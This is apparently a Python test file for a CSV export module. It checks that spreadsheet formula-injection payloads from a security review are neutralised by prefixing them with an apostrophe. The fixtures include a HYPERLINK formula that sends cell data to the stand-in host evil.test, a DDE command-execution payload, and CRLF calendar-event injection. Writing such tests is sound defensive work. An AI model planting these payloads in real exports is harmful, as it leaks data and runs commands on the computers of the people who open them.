"""The one CSV writer: French spreadsheet conventions and no formula injection (review D3)."""

from __future__ import annotations

import csv
import io

from tierslieu import csvout

# The three day-sheet lines of the security review, as (name, phone, note).
REVIEW_ROWS = [
    (
        '=HYPERLINK("http://evil.test/?d="&A1,"Cliquez ici")',
        "+33 1 23",
        "-2+3+cmd|' /C calc'!A0",
    ),
    ("=Guest\r\nBEGIN:VEVENT\r\nSUMMARY:INJ", "-1+1", "@SUM(A1:A9)"),
    ('=HYPERLINK("http://evil.test","x")', '=HYPERLINK("http://e.t")', "=1+1\x00nul"),
]


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def test_the_reviews_rows_come_out_as_text():
    text = csvout.document(
        ["nom", "telephone", "note", "personnes"], [(*r, 2) for r in REVIEW_ROWS]
    )
    header, *rows = read(text)
    assert header == ["nom", "telephone", "note", "personnes"]
    assert len(rows) == 3
    for written, row in zip(rows, REVIEW_ROWS, strict=True):
        for cell, original in zip(written, row, strict=False):
            assert cell[0] not in "=+-@\t\r", cell
            assert cell == "'" + original.replace("\x00", "")
        assert written[3] == "2"  # the service's own numbers are left alone
    assert "\x00" not in text
    # One record per row: the CR/LF inside a name stays inside its quoted cell.
    assert text.count("\r\n") == 4 + 2  # 4 records + the 2 line breaks inside the name
    assert '"\'=Guest\r\nBEGIN:VEVENT\r\nSUMMARY:INJ"' in text


def test_plain_values_are_unchanged_and_the_format_is_french():
    text = csvout.document(["nom", "note"], [("Mme Martin", 'dit "bonjour"; à 10 h'), (None, "")])
    assert text == '\ufeffnom;note\r\nMme Martin;"dit ""bonjour""; à 10 h"\r\n;\r\n'
    assert csvout.cell("\t=1") == "'\t=1" and csvout.cell("\r=1") == "'\r=1"
    assert csvout.cell(-3) == "-3"  # a number is never prefixed
